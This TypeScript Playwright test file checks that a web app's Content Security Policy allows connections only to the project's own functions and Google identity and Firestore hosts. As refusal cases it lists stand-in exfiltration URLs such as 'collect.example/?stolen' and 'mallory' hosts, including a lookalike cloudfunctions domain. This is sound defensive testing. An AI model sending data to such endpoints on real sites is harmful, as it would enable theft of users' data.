import type { Page } from "playwright-core";
import { expect } from "vitest";
import { withConnections } from "../../../scripts/build/connections.mjs";
import { deployedWebConfig } from "../../../scripts/stack/webConfig.mjs";
import { deployConfig } from "../../deploy/firebaseConfig.ts";
import { desktopScenario } from "../../support/browser/stage.ts";
import { stack } from "../../support/stack/stack.ts";

const PIXEL = Buffer.from("R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==", "base64");

/** Whether a page's policies let it ask for a picture; whether it arrives is another matter. */
const mayDraw = (page: Page, url: string): Promise<boolean> =>
  page.evaluate(async (source) => {
    const refused = new Promise<boolean>((resolve) => {
      document.addEventListener("securitypolicyviolation", ({ blockedURI }) => {
        if (blockedURI === source) resolve(false);
      });
    });
    const image = new Image();
    const loaded = new Promise<boolean>((resolve) => {
      image.addEventListener("load", () => resolve(true));
    });
    image.src = source;
    return Promise.race([refused, loaded]);
  }, url);

/** What became of a page's request: an answer's status, or what the policy refused it for. */
const reach = (page: Page, url: string): Promise<number | string> =>
  page.evaluate(async (target) => {
    const refused = new Promise<string>((resolve) => {
      // A library of the page tries once whether it may make code of text, and may do so at this moment.
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
        if (blockedURI === target) resolve(`${effectiveDirective} ${blockedURI}`);
      });
    });
    return fetch(target).then(
      ({ status }) => status,
      () => refused,
    );
  }, url);

desktopScenario(
  "a page connects to its project's functions and to no other host",
  async (stage) => {
    const page = await stage.open();
    await page.goto(`${stack.app}/login`);
    expect(await reach(page, `${stack.api.na}/utils/ip`)).toBe(200);
    const elsewhere = "https://collect.example/?stolen";
    expect(await reach(page, elsewhere)).toBe(`connect-src ${elsewhere}`);
  },
);

desktopScenario("a deployed page reaches no other project's functions", async (stage) => {
  const config = deployedWebConfig({ GCLOUD_PROJECT: "acme", PARLEY_WEB_API_KEY: "key" });
  if (typeof config === "string") throw new Error(config);
  const everywhere = deployConfig.hosting.headers.find(({ source }) => source === "**");
  const headers = Object.fromEntries(
    (everywhere?.headers ?? []).map((one) => [one.key, one.value]),
  );
  const built = await (await fetch(`${stack.app}/login`)).text();
  // The page as it is deployed, without its scripts: only what its policies let through is asked.
  const body = withConnections(built, config).replaceAll(/<script[^>]*>\s*<\/script>/g, "");
  const page = await stage.open();
  const left: string[] = [];
  const drawn: string[] = [];
  await page.route(/^https:/, async (route) => {
    const url = route.request().url();
    if (url === "https://acme.web.app/login")
      return route.fulfill({ headers, body, contentType: "text/html" });
    if (route.request().resourceType() === "fetch") left.push(url);
    if (route.request().resourceType() === "image") {
      drawn.push(url);
      return route.fulfill({ body: PIXEL, contentType: "image/gif" });
    }
    return route.fulfill({ status: 204, headers: { "access-control-allow-origin": "*" } });
  });
  await page.goto("https://acme.web.app/login");

  const allowed = [
    `${config.api.na}/rpc/ensureAgency`,
    `${config.api.eu}/rpc/ensureAgency`,
    "https://identitytoolkit.googleapis.com/v1/accounts:lookup",
    "https://securetoken.googleapis.com/v1/token",
    "https://firestore.googleapis.com/v1/projects/acme",
  ];
  for (const url of allowed) expect(await reach(page, url)).toBe(204);
  const refused = [
    "https://us-central1-mallory.cloudfunctions.net/na-api/take",
    "https://storage.googleapis.com/mallory/take",
    "https://us-central1-acme.cloudfunctions.net.mallory.example/take",
    "https://mallory.example/take",
  ];
  for (const url of refused) expect(await reach(page, url)).toBe(`connect-src ${url}`);
  expect(left).toEqual(allowed);

  const pictures = [
    `${config.api.eu}/v3/public/files/${"a".repeat(24)}`,
    "https://lh3.googleusercontent.com/a/picture",
  ];
  for (const url of pictures) expect(await mayDraw(page, url)).toBe(true);
  const foreign = [
    `https://us-central1-mallory.cloudfunctions.net/v3/public/files/${"a".repeat(24)}`,
    "https://mallory.example/picture.gif",
  ];
  for (const url of foreign) expect(await mayDraw(page, url)).toBe(false);
  // The page itself has Parley's.
  expect(drawn.filter((url) => !url.startsWith("https://acme.web.app/"))).toEqual(pictures);
  await page.context().unroute(/^https:/);
});
